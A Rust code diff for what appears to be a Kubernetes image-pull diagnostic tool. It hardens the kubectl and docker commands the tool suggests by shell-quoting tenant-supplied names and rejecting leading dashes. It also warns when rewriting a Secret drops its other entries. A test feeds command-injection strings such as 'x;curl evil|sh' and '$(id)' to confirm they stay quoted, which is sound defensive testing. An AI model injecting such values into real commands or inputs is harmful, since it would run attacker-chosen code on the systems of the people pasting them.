@@ -14,6 +14,8 @@ pub(super) struct Failing {
     pub(super) username: Arc<str>,
     /// Whether its Secret is of the type `kubernetes.io/dockercfg`.
     pub(super) legacy: bool,
+    /// Whether its Secret holds other credentials too.
+    pub(super) others: bool,
     pub(super) status: Status,
 }
 
@@ -51,14 +53,11 @@ pub(super) fn explain(key: &WorkloadKey, pull: &Pull, cause: &Cause) -> (String,
         }
         Cause::Malformed(secret) => (
             format!("the Secret {secret} cannot be decoded, which fails every image of a pod that names it"),
-            format!(
-                "kubectl -n {namespace} delete secret {secret}, then write it anew: {}",
-                create(namespace, secret, registry_of(image), "USER", true)
-            ),
+            format!("write it anew: {}", create(namespace, secret, registry_of(image), "USER", true)),
         ),
         Cause::Unseen(secret) => (
             format!("{image}: the Secret {secret} is not among the objects that were read, so nothing is known of it"),
-            format!("kubectl -n {namespace} get secret {secret}"),
+            format!("kubectl -n {} get secret {}", quoted(namespace), quoted(secret)),
         ),
         Cause::Uncovered { repository, source, secret } => (
             format!("{image}: no credential matches, and an anonymous pull of {repository} is denied"),
@@ -66,7 +65,7 @@ pub(super) fn explain(key: &WorkloadKey, pull: &Pull, cause: &Cause) -> (String,
         ),
         Cause::NotListed(host) => (
             format!("{image}: {host} is not on the list of registries, so it was not asked"),
-            format!("add `host: {host}` to `registries` in the config file, or pass --registry {host}"),
+            format!("add `host: {host}` to `registries` in the config file, or pass --registry {}", quoted(host)),
         ),
         Cause::AnonymousNotProven => (
             format!("{image}: no credential matches, and whether it can be pulled anonymously is not proven yet"),
@@ -88,6 +87,7 @@ pub(super) fn explain(key: &WorkloadKey, pull: &Pull, cause: &Cause) -> (String,
                     registry: &one.registry,
                     username: &one.username,
                     legacy: one.legacy,
+                    others: one.others,
                 };
                 mend(one.status, &at, &[registry_and_path(image)])
             });
@@ -119,13 +119,15 @@ struct Place<'a> {
     registry: &'a str,
     username: &'a str,
     legacy: bool,
+    others: bool,
 }
 
 /// What mends a credential in a status; `denied` are the repositories that it is refused.
 fn mend(status: Status, at: &Place<'_>, denied: &[&str]) -> String {
     let write = || {
         let user = if at.username.is_empty() || at.username == "redacted" { "USER" } else { at.username };
-        create(at.namespace, at.secret, at.registry, user, at.legacy)
+        let command = create(at.namespace, at.secret, at.registry, user, at.legacy);
+        if at.others { format!("{command} (its other entries go with that: write them again too)") } else { command }
     };
     match status {
         Status::Malformed => format!("write the Secret anew: {}", write()),
@@ -154,9 +156,11 @@ fn mend(status: Status, at: &Place<'_>, denied: &[&str]) -> String {
 
 /// The command that writes a Secret with one credential.
 fn create(namespace: &str, secret: &str, registry: &str, username: &str, replace: bool) -> String {
+    let (namespace, secret) = (quoted(namespace), quoted(secret));
     let create = format!(
-        "kubectl -n {namespace} create secret docker-registry {secret} --docker-server={registry} \
-         --docker-username={} --docker-password=\"$NEW_TOKEN\"",
+        "kubectl -n {namespace} create secret docker-registry {secret} --docker-server={} --docker-username={} \
+         --docker-password=\"$NEW_TOKEN\"",
+        quoted(registry),
         quoted(username)
     );
     if replace {
@@ -166,10 +170,10 @@ fn create(namespace: &str, secret: &str, registry: &str, username: &str, replace
     }
 }
 
-/// A text as one word of a shell.
+/// A text as one word of a shell. Names come from tenants, and a person pastes the command.
 fn quoted(text: &str) -> String {
     let plain = |c: char| c.is_ascii_alphanumeric() || "-_.@:/+".contains(c);
-    if !text.is_empty() && text.chars().all(plain) {
+    if !text.is_empty() && !text.starts_with('-') && text.chars().all(plain) {
         text.to_owned()
     } else {
         format!("'{}'", text.replace('\'', r"'\''"))
@@ -177,7 +181,7 @@ fn quoted(text: &str) -> String {
 }
 
 fn edit(key: &WorkloadKey) -> String {
-    format!("kubectl -n {} edit {} {}", key.namespace, key.kind.to_lowercase(), key.name)
+    format!("kubectl -n {} edit {} {}", quoted(&key.namespace), quoted(&key.kind.to_lowercase()), quoted(&key.name))
 }
 
 /// How to name a Secret that covers an image.
@@ -191,8 +195,9 @@ fn cover(key: &WorkloadKey, source: SecretSource, secret: Option<&str>, registry
     let named = match source {
         SecretSource::Pod => format!("name it in `imagePullSecrets`: {}", edit(key)),
         SecretSource::ServiceAccount => format!(
-            "name it in the ServiceAccount of the pods: kubectl -n {namespace} patch serviceaccount SERVICE_ACCOUNT \
-             -p '{{\"imagePullSecrets\":[{{\"name\":\"{name}\"}}]}}'"
+            "name it in the ServiceAccount of the pods: kubectl -n {} patch serviceaccount SERVICE_ACCOUNT -p {}",
+            quoted(namespace),
+            quoted(&format!("{{\"imagePullSecrets\":[{{\"name\":\"{name}\"}}]}}"))
         ),
     };
     format!("{made}; {named}")
@@ -254,7 +259,7 @@ impl CredentialRow {
             // A Docker `config.json`: there is no Secret to write.
             return match self.status {
                 Status::Forbidden | Status::Ignored => mend(self.status, &self.place(), &denied),
-                _ => format!("docker login {}", self.registry),
+                _ => format!("docker login {}", quoted(&self.registry)),
             };
         }
         mend(self.status, &self.place(), &denied)
@@ -268,6 +273,30 @@ impl CredentialRow {
             registry,
             username: &self.username,
             legacy: self.status == Status::Malformed,
+            others: self.siblings > 0,
         }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_name_cannot_run_anything_in_a_pasted_command() {
+        for evil in ["x;curl evil|sh", "$(id)", "`id`", "a b", "it's", "a\nb", ""] {
+            let at =
+                Place { namespace: evil, secret: evil, registry: evil, username: evil, legacy: true, others: false };
+            let command = mend(Status::Rejected, &at, &[]);
+            let words = format!("'{}'", evil.replace('\'', r"'\''"));
+            let outside = command.replace(&words, "").replace("\"$NEW_TOKEN\"", "");
+            assert!(!outside.contains([';', '|', '$', '`', '\n']), "{evil:?}: {command}");
+        }
+    }
+
+    #[test]
+    fn a_command_that_drops_other_entries_says_so() {
+        let at = Place { namespace: "a", secret: "s", registry: "ghcr.io", username: "u", legacy: false, others: true };
+        assert!(mend(Status::Rejected, &at, &[]).contains("its other entries"));
     }
 }
